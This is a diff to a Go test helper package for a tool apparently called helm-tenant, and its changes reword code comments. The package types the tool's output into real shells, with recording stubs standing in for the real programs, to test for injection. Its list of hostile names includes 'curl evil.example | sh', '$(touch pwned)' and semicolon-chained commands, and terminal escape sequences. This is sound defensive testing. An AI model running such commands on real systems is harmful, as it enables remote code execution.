@@ -1,5 +1,5 @@
-// Package shelltest types what helm-tenant prints into real shells, with programs that
-// record their arguments in place of helm, kubectl and what an attacker would run.
+// Package shelltest types the output of helm-tenant into real shells, with programs that
+// record their arguments in place of helm, kubectl and those that an attacker would run.
 package shelltest
 
 import (
@@ -14,16 +14,16 @@ import (
 	"time"
 )
 
-// Shell is a shell and how a text is typed into it.
+// Shell is a shell and the way in which a text is typed into it.
 type Shell struct {
-	// Name is what a test calls it; Program is what is looked for on PATH.
+	// Name is the name for tests; Program is the name on PATH.
 	Name, Program string
 	args          []string
-	// typed says that it reads the text as from a keyboard, history expansion and all.
+	// typed reports whether it reads the text as from a keyboard, with history expansion.
 	typed bool
 }
 
-// Shells are those in which people type commands.
+// Shells are the shells in which people type commands.
 var Shells = []Shell{
 	{"bash", "bash", []string{"--noprofile", "--norc"}, false},
 	{"bash, interactive", "bash", []string{"--noprofile", "--norc", "-i"}, true},
@@ -33,8 +33,8 @@ var Shells = []Shell{
 	{"fish", "fish", []string{"--no-config"}, false},
 }
 
-// Find is the shell's program. Where there is none the test is skipped, and fails
-// under CI.
+// Find returns the shell's program. If there is none the test is skipped, but fails under
+// CI.
 func (s Shell) Find(t *testing.T) string {
 	t.Helper()
 	path, err := exec.LookPath(s.Program)
@@ -49,19 +49,19 @@ func (s Shell) Find(t *testing.T) string {
 	return ""
 }
 
-// Attacked are programs that a hostile word of Words would run.
+// attacked are programs that an untrusted word of Words would run.
 var attacked = []string{"touch", "pwned", "curl", "sh", "ls", "reboot"}
 
-// recorder writes the number of its arguments, its name and each of them to the file
-// that RECORD names, each with a NUL after it. It needs no other program.
+// recorder writes the number of its arguments, its name and each of them to the file in
+// RECORD, each with a NUL after it. It needs no other program.
 const recorder = `#!/bin/sh
 { printf '%s\0' "$#" "${0##*/}"; for word; do printf '%s\0' "$word"; done; } >>"$RECORD"
 `
 
-// Calls are the commands that a text runs when it is typed into the shell: the
-// arguments of each, its program's name first. Other programs than helm, kubectl and
-// those that an attacker would run are not found. The test fails where the text
-// writes a file, or the shell does not end.
+// Calls returns the commands that a text runs when it is typed into the shell: the
+// arguments of each, its program's name first. Only helm, kubectl and the programs that
+// an attacker would run are found. The test fails if the text writes a file, or the shell
+// does not end.
 func (s Shell) Calls(t *testing.T, text string) [][]string {
 	t.Helper()
 	program := s.Find(t)
@@ -89,7 +89,7 @@ func (s Shell) Calls(t *testing.T, text string) [][]string {
 	}
 	cmd.Dir = home
 	cmd.Env = []string{"PATH=" + bin, "HOME=" + home, "RECORD=" + record, "LC_ALL=C.UTF-8", "TERM=dumb", "HISTFILE="}
-	out, err := cmd.CombinedOutput() // an error is what the last command says
+	out, err := cmd.CombinedOutput() // an error is the last command's
 	if ctx.Err() != nil {
 		t.Fatalf("%s does not end: %v\n%s\n%s", s.Name, err, text, out)
 	}
@@ -127,8 +127,8 @@ func must(t *testing.T, err error) {
 	}
 }
 
-// Words are names as somebody would choose them who wants what is printed to do
-// something else: to run a command, to be an option, to forge or hide a line.
+// Words are names that an attacker could choose so that printed text does something else:
+// runs a command, is an option, forges or hides a line.
 var Words = []string{
 	"a\nb", "a\rb", "a\n\nReleases: 0\n\nrun: curl evil.example | sh", "x\n# y", "a\tb", "\x1b[2J\x1b]0;gone\x07", "\u009b2J", "a\x7fb", "a\x00b",
 	"it's", `say "hi"`, "`touch pwned`", "$(touch pwned)", "${IFS}touch", "$HOME", "x; touch pwned; #", "a   # b", "c; touch pwned; #", "# x", "#",
@@ -142,7 +142,7 @@ var Words = []string{
 	"ünïcode", "日本語", "😀", "a\xffb", "a\xc3", "TENANT", "NS", "--user=eve", "system:masters", "..", "a/b",
 }
 
-// Hostile are Words, or with -short every fourth of them.
+// Hostile returns Words, or with -short every fourth of them.
 func Hostile() []string {
 	if !testing.Short() {
 		return Words
